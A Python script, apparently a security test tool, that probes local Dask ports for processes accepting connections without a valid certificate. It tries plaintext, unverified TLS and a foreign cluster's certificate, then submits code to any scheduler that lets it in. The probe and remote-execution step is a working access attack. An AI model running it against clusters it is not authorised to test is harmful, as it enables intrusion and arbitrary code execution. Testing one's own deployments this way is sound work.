"""Tries to use the Dask processes at some ports without their certificate; prints those that let it in.

Usage: ``intruder.py USER PORT...``; a user of -1 changes nothing. Everything is imported before the user is changed.
"""

from __future__ import annotations

import asyncio
import os
import ssl
import sys

import distributed
from distributed.core import connect

SECONDS = 60.0  # for all attacks together; none takes long


def contexts() -> dict[str, list[dict]]:
    """Arguments of connections: in the clear, with no certificate, and with one of another cluster."""
    nothing = ssl.create_default_context()
    nothing.check_hostname, nothing.verify_mode = False, ssl.CERT_NONE
    careful, trusting = (distributed.Security.temporary().get_connection_args("client") for _ in range(2))
    trusting["ssl_context"].verify_mode = ssl.CERT_NONE
    return {"tcp": [{}], "tls": [{"ssl_context": nothing}, careful, trusting]}


async def is_web_server(port: str) -> bool:
    reader, writer = await asyncio.open_connection("127.0.0.1", int(port))
    writer.write(b"GET / HTTP/1.0\r\n\r\n")
    try:
        return await reader.read(5) == b"HTTP/"
    except OSError:
        return False
    finally:
        writer.close()


async def attack(protocol: str, port: str, arguments: dict) -> None:
    try:
        comm = await connect(f"{protocol}://127.0.0.1:{port}", timeout=5, **arguments)
        await comm.write({"op": "identity", "reply": True})
        identity = await comm.read()
        print("let in:", port, identity["type"])
        if identity["type"] == "Scheduler":
            async with distributed.Client(f"{protocol}://127.0.0.1:{port}", asynchronous=True) as client:
                print("ran code:", port, await client.submit(os.getuid))
    except Exception as error:
        print(protocol, port, repr(error), file=sys.stderr)


async def main(ports: list[str]) -> None:
    tried = [port for port in ports if not await is_web_server(port)]
    attacks = [
        asyncio.ensure_future(attack(protocol, port, arguments))
        for port in tried
        for protocol, found in contexts().items()
        for arguments in found
    ]
    await asyncio.wait(attacks, timeout=SECONDS)
    print("tried:", len(tried), "as user", os.getuid())


if __name__ == "__main__":
    if int(sys.argv[1]) >= 0:
        os.setgroups([])
        os.setgid(int(sys.argv[1]))
        os.setuid(int(sys.argv[1]))
    asyncio.run(main(sys.argv[2:]))
